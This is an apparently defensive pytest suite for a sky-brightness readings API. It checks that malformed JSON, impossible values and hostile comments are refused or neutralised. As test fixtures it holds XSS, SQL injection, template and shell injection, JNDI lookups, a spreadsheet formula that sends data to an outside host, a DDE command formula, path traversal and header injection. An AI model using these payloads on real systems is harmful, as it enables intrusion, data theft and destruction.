"""Hostile JSON, impossible values and comments that mean something to a machine: refused by name, or kept as mere words."""

import csv
import html
import io
import json

import pytest

READING = {"date": "2022-09-25", "time": "22:15", "longitude": 4.484, "latitude": 52.155, "brightness": 18.72}
GOOD = json.dumps(READING)

BODIES = {
    "nothing": b"",
    "spaces": b"   ",
    "null": b"null",
    "a number": b"1",
    "true": b"true",
    "a text": b'"date"',
    "a list": f"[{GOOD}]".encode(),
    "two objects": f"{GOOD}{GOOD}".encode(),
    "cut off": GOOD[:-5].encode(),
    "a comma too many": GOOD.replace("}", ",}").encode(),
    "a comment": f"/* x */{GOOD}".encode(),
    "single quotes": GOOD.replace('"', "'").encode(),
    "NaN": GOOD.replace("18.72", "NaN").encode(),
    "Infinity": GOOD.replace("18.72", "Infinity").encode(),
    "minus Infinity": GOOD.replace("18.72", "-Infinity").encode(),
    "a number beyond all": GOOD.replace("18.72", "1e999").encode(),
    "a number of 1,000 digits": GOOD.replace("18.72", "1" * 1000).encode(),
    "a number of 5,000 digits behind the point": GOOD.replace("18.72", "1." + "1" * 5000).encode(),
    "a hexadecimal number": GOOD.replace("18.72", "0x12").encode(),
    "a name twice": GOOD.replace("}", ', "longitude": 5}').encode(),
    "a name twice, once escaped": GOOD.replace("}", ', "longitud\\u0065": 5}').encode(),
    "lists 100,000 deep": b"[" * 100_000 + b"]" * 100_000,
    "objects 40,000 deep": b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
    "lists deep within a field": GOOD.replace("18.72", "[" * 50 + "]" * 50).encode(),
    "UTF-16": GOOD.encode("utf-16"),
    "UTF-32": GOOD.encode("utf-32"),
    "a byte order mark": b"\xef\xbb\xbf" + GOOD.encode(),
    "bytes that are no UTF-8": GOOD.replace("22:15", "22\udcff15").encode("utf-8", "surrogateescape"),
    "overlong UTF-8": GOOD.encode().replace(b"22:15", b"22\xc0\xba15"),
    "a NUL": GOOD.encode() + b"\x00",
    "XML": b"<reading/>",
    "a form": b"date=2022-09-25&time=22:15",
    "YAML": b"date: 2022-09-25\n",
    "a line end within a text": GOOD.replace("22:15", "22\n15").encode(),
}


@pytest.mark.parametrize("name", BODIES)
def test_a_body_that_is_no_json_of_ours_is_refused(ask, name):
    answer = ask("POST", "/api/v1/readings", body=BODIES[name], headers={"content-type": "application/json"})
    assert answer.status == 400, answer.body
    assert answer.json["code"] == "no_json"


CONTENT_TYPES = ["", "text/plain", "text/html", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonx",
                 "application/xml", "image/png", "application/json-patch+json", "*/*", "a" * 500]  # fmt: skip


@pytest.mark.parametrize("content_type", CONTENT_TYPES)
def test_a_reading_under_a_false_content_type_is_refused(ask, content_type):
    answer = ask("POST", "/api/v1/readings", body=GOOD.encode(), headers={"content-type": content_type})
    assert (answer.status, answer.json["code"]) == (415, "wrong_media_type")


VALUES = [
    ("date", "0001-01-01"), ("date", "9999-12-31"), ("date", "2022-02-30"), ("date", "2022-13-01"), ("date", "25-25-2022"), ("date", "tomorrow"),
    ("date", "2022-09-25T22:15:00Z"), ("date", "-2022-09-25"), ("date", 20220925), ("date", True), ("date", ["2022-09-25"]), ("date", {"$gt": ""}),
    ("date", "\u0662\u0660\u0662\u0662-09-25"), ("date", "２０２２-09-25"), ("date", "1' OR '1'='1"), ("date", "9" * 300), ("date", ""), ("date", None),
    ("time", "24:00"), ("time", "25:61"), ("time", "22:60"), ("time", "-1:00"), ("time", "22:15:60"), ("time", "2215"), ("time", "10:15 PM"),
    ("time", 22.15001), ("time", False), ("time", "22:15+02:00"), ("time", "NaN"), ("time", "\x00"), ("time", "22:15; DROP TABLE uploads"),
    ("longitude", 180.0001), ("longitude", -181), ("longitude", 3737670), ("longitude", "NaN"), ("longitude", "inf"), ("longitude", "-inf"),
    ("longitude", 1e308), ("longitude", "1e400"), ("longitude", "4.48.4"), ("longitude", "4°29'E"), ("longitude", "0x4"), ("longitude", "1_000"),
    ("longitude", "1,000.5"), ("longitude", 10**30), ("longitude", None), ("longitude", [4]), ("longitude", {}), ("longitude", True), ("longitude", "४"),
    ("latitude", 90.01), ("latitude", -90.01), ("latitude", "52.155N"), ("latitude", "+-52"), ("latitude", "52,15,5"), ("latitude", ""),
    ("brightness", "dark"), ("brightness", "1e5"), ("brightness", "18.72 mag"), ("brightness", "=18+1"), ("brightness", [18.7]), ("brightness", "--1"),
    ("brightness", "\u202e27.81"), ("cloud", 101), ("cloud", -1), ("cloud", "5/4"), ("cloud", "cloudy"), ("cloud", "NaN"),
    ("limiting_magnitude", "six"), ("comment", "x" * 2001), ("comment", {"a": 1}), ("comment", ["x"]), ("serial_number", "9" * 201), ("observer_code", True),
    ("time_zone", "Mars/Phobos"), ("time_zone", "../../etc/passwd"), ("time_zone", "+99:00"), ("stars_counted", -1), ("stars_counted", "many"), ("lamps_nearby", "<b>"),
    ("__proto__", "x"), ("constructor", {}), ("quality", "good"), ("site_id", "x"), ("is_simulated", True), ("<script>", "x"), ("Date", "2022-09-25"), ("", "x"),
    ("date\x00", "x"), ("\u202edate", "x"), ("a" * 5000, "x"),
]  # fmt: skip


@pytest.mark.parametrize(("field", "value"), VALUES, ids=lambda value: ascii(value)[:40])
def test_an_impossible_value_is_refused_by_the_name_of_its_field(ask, field, value):
    answer = ask.json("POST", "/api/v1/readings", READING | {field: value}, headers={"accept-language": "nl"})
    assert answer.status == 422, answer.body
    assert answer.json["code"] == "reading_refused"
    (fault,) = answer.json["errors"]
    shown = field[:79] if len(field) > 80 else field
    assert fault["field"].startswith("".join(c if c.isprintable() else "?" for c in shown))
    assert len(fault["value"]) <= 80
    assert all(character.isprintable() for character in fault["value"] + fault["field"])
    assert b"<script>" not in answer.body or answer.headers["x-content-type-options"] == "nosniff"


ODD_BUT_POSSIBLE = [
    ("longitude", -0.0), ("longitude", "-0"), ("longitude", "−4,48"), ("latitude", "52,155"), ("brightness", 0), ("brightness", "-5"),
    ("brightness", 999999999), ("brightness", 1e-9), ("cloud", "1/4"), ("cloud", "25 %"), ("time", "22u15"), ("time", "0:00"), ("date", "25-9-2022"),
    ("date", "1950-01-01"), ("date", "2100-12-31"), ("longitude", 180), ("latitude", -90), ("longitude", 0.0000000001),
]  # fmt: skip


@pytest.mark.parametrize(("field", "value"), ODD_BUT_POSSIBLE, ids=lambda value: ascii(value)[:40])
def test_an_odd_value_is_kept_and_flagged_and_not_a_fault_of_ours(ask, field, value):
    answer = ask.json("POST", "/api/v1/readings", READING | {field: value})
    assert answer.status == 201, answer.body
    assert answer.json["files"][0]["rows_read"] == 1
    for form in (b"", b"format=csv", b"format=geojson", b"format=parquet"):
        assert ask("GET", "/api/v1/readings", query=form).status == 200


COMMENTS = {
    "script": "<script>alert(1)</script>",
    "image that runs": "<img src=x onerror=alert(1)>",
    "SVG that runs": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "end of a script": "</script><script>alert(1)</script>",
    "comment of HTML": "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "address that runs": "javascript:alert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "template of Jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template of a shell": "$(reboot) `id` ${IFS}",
    "JNDI": "${jndi:ldap://192.0.2.1/a}",
    "SQL": "'; DROP TABLE readings; --",
    "SQL union": "1 UNION SELECT receipt_hash FROM uploads",
    "SQL with a backslash": "\\'; DELETE FROM files; --",
    "LDAP": "*)(uid=*))(|(uid=*",
    "formula": "=1+1",
    "formula that calls a program": "=cmd|' /C calc'!A0",
    "formula that asks a server": '=HYPERLINK("http://192.0.2.1/?x="&A1,"x")',
    "formula with plus": "+1+1",
    "formula with minus": "-1+1",
    "formula with at": "@SUM(1+1)",
    "formula behind spaces": "   =1+1",
    "formula behind a tab": "\t=1+1",
    "formula behind a carriage return": "\r=1+1",
    "formula behind a line end": "x\n=1+1",
    "formula behind a semicolon": "x;=1+1",
    "formula behind a comma": "x,=1+1",
    "formula behind a quotation mark": 'x","=1+1',
    "formula in full width": "＝1+1",
    "formula behind a no-break space": "\u00a0=1+1",
    "formula behind a byte order mark": "\ufeff=1+1",
    "formula behind a zero-width space": "\u200b=1+1",
    "format of print": "%s%s%n%x",
    "path": "../../../../etc/passwd",
    "mail header": "x\r\nBcc: everyone@example.org",
    "answer header": "x\r\nSet-Cookie: a=b",
    "right to left": "\u202egnp.exe",
    "isolates of direction": "\u2066x\u2069\u2067y\u2069",
    "emoji": "🌌⭐👩‍🚀",
    "flags of emoji": "🇳🇱" * 100,
    "marks piled up": "a" + "\u0300" * 500,
    "NUL": "a\x00b",
    "escapes of a terminal": "\x1b[2J\x1b]0;x\x07",
    "bell and backspace": "\x07\x08\x7f",
    "line separators": "a\u2028b\u2029c",
    "not a character": "a\uffffb\ufdd0",
    "beyond the first plane": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "e-mail address": "mail jan.jansen@example.org",
    "telephone number": "bel +31 6 12345678",
    "a number sign first": "# a remark",
    "GESIMULEERD": "GESIMULEERD",
    "only spaces": "     ",
    "quotation marks": '"' * 200,
    "1,000 lines": "x\n" * 900,
}
RUNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("name", COMMENTS)
def test_a_comment_is_mere_words_wherever_it_comes_out(ask, name):
    serial = f"comment {list(COMMENTS).index(name)}"
    answer = ask.json("POST", "/api/v1/readings", READING | {"serial_number": serial, "comment": COMMENTS[name]})
    assert answer.status == 201, answer.body
    found = [row for row in everything(ask) if row["instrument_id"] == serial]
    if answer.json["state"] == "held":
        assert name == "GESIMULEERD"
        assert not found
        return
    table = csv.DictReader(io.StringIO(ask("GET", "/api/v1/readings", query=b"format=csv").body.decode(), newline=""))
    (line,) = [row for row in table if row["instrument_id"] == serial]
    assert len(found) == 1
    assert not line["comment"].strip("\u00a0\ufeff\u200b \n").startswith(RUNS)
    assert None not in line
    assert "example.org" not in str(found[0]["comment"]) + line["comment"]
    assert "12345678" not in str(found[0]["comment"]) + line["comment"]
    body = ask("GET", "/api/v1/readings", query=b"format=geojson").body.decode()
    assert "<" not in body
    assert "\u2028" not in body
    assert html.unescape(body) == body or "&" in COMMENTS[name]


def everything(ask):
    rows, query = [], b"limit=1000"
    while query:
        page = ask("GET", "/api/v1/readings", query=query).json
        rows += page["readings"]
        query = page["next"].split("?")[1].encode() if page["next"] else b""
    return rows
